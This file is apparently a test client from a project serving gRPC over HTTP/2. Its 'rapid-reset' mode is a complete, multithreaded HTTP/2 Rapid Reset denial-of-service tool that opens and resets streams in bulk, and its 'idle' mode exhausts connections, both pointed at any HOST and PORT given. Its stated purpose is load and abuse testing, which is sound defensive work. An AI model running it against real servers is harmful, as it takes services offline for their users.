#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A client that means harm, for tests and by hand. It knows neither key nor certificate.

Usage: hostile.py rapid-reset HOST PORT SECONDS CONNECTIONS [PATH]
       hostile.py idle HOST PORT SECONDS CONNECTIONS

rapid-reset opens streams of HTTP/2 and resets them at once, on each connection, and connects again
when it is thrown out. idle opens connections, says nothing, and holds them.
"""

import contextlib
import socket
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS = 4
STREAMS_PER_SEND = 500
CONTROL = "/tfrt.peer.v1.Peer/Control"


def frame(kind, flags, stream, payload):
    return (
        len(payload).to_bytes(3, "big")
        + bytes([kind, flags])
        + stream.to_bytes(4, "big")
        + payload
    )


def literal(name, value):
    """A header field of HPACK that is in no table."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def header_block(path):
    return (
        b"\x83\x86"  # POST, http
        + literal(b":path", path.encode())
        + literal(b":authority", b"x")
        + literal(b"content-type", b"application/grpc")
        + literal(b"te", b"trailers")
    )


def reset_streams(address, end, path):
    """One connection, again and again; returns how many streams it has opened and reset."""
    block = header_block(path)
    count = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), socket.create_connection(address, timeout=5) as stream:
            stream.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            number = 1
            while time.monotonic() < end:
                frames = bytearray()
                for _ in range(STREAMS_PER_SEND):
                    frames += frame(HEADERS, END_HEADERS, number, block)
                    frames += frame(RST_STREAM, 0, number, b"\0\0\0\x08")
                    number += 2
                stream.sendall(frames)
                count += STREAMS_PER_SEND
    return count


def rapid_reset(address, seconds, connections, path=CONTROL):
    """Returns how many streams were opened and reset."""
    end = time.monotonic() + seconds
    counts = []
    threads = [
        threading.Thread(target=lambda: counts.append(reset_streams(address, end, path)))
        for _ in range(connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(counts)


def open_idle(address, connections):
    """Connections that say nothing, which the caller closes; fewer if the listener's queue is full."""
    streams = []
    for _ in range(connections):
        with contextlib.suppress(OSError):
            streams.append(socket.create_connection(address, timeout=1))
    return streams


def main(arguments):
    kind, host, port, seconds, connections, *path = arguments
    address = (host, int(port))
    if kind == "rapid-reset":
        print(rapid_reset(address, float(seconds), int(connections), *path), "streams")
    elif kind == "idle":
        streams = open_idle(address, int(connections))
        print(len(streams), "connections")
        time.sleep(float(seconds))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
